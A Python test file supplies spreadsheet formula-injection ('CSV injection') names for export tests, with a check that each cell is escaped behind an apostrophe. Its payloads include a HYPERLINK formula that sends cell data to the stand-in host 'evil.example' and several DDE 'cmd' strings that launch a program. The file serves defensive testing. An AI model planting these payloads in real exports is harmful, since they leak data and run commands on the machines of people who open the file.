"""Names that a spreadsheet would run as formulas, one of each kind (OWASP "CSV injection"), for the export tests."""
import pytest

EVIL_NAMES = [
    pytest.param('=HYPERLINK("http://evil.example/?d="&A2,"查看详情")', id="equals"),
    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage-return"),
]


def assert_neutralised(cell_value, name):
    """The cell holds the name as text behind an apostrophe, never as a formula. (An xlsx reads a carriage
    return back as a line feed.)"""
    assert (cell_value[:1], _newlines(cell_value[1:])) == ("'", _newlines(name))


def _newlines(text):
    return text.replace("\r\n", "\n").replace("\r", "\n")
